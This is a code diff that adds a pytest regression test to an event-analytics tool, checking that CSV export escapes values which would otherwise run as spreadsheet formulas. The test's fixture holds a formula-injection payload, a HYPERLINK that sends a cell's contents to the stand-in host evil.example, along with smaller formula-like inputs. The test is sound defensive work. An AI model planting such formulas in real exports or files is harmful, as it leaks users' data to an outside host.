@@ -221,6 +221,41 @@ def test_export_csv(run, db: str) -> None:
     assert json.loads(rows[0]["properties"]) == {"i": 0, "note": "a,b"}
 
 
+def test_export_csv_cells_are_never_spreadsheet_formulas(run, db: str) -> None:
+    # Event names and ids come from anyone who can send an event: a spreadsheet opening
+    # the export must show them, not run them.
+    app = created(run)
+    store = open_store(db)
+    ts = parse_timestamp("2026-01-01T00:00:00Z")
+    store.write(
+        [
+            Event(
+                kind="track",
+                name='=HYPERLINK("http://evil.example/?x="&A1,"click")',
+                app_id=app["app_id"],
+                user_id=None,
+                anonymous_id="@SUM(1+1)",
+                message_id="-2+3",
+                ts=ts,
+                received_at=ts,
+                timestamp=None,
+                sent_at=None,
+                properties={"k": "=1+1"},
+                context={},
+                id=f"evt_{1:032x}",
+            )
+        ]
+    )
+    store.close()
+    rows = list(csv.DictReader(io.StringIO(run("export", app["app_id"], "--format", "csv"))))
+    assert rows[0]["event"] == """'=HYPERLINK("http://evil.example/?x="&A1,"click")"""
+    assert rows[0]["anonymous_id"] == "'@SUM(1+1)"
+    assert rows[0]["message_id"] == "'-2+3"
+    assert json.loads(rows[0]["properties"]) == {"k": "=1+1"}  # JSON starts with "{"
+    jsonl = json.loads(run("export", app["app_id"]).splitlines()[0])
+    assert jsonl["event"].startswith("=HYPERLINK")  # JSON lines keep the value as sent
+
+
 def test_purge_older_than(run, db: str) -> None:
     app = created(run)
     _seed(db, app["app_id"])
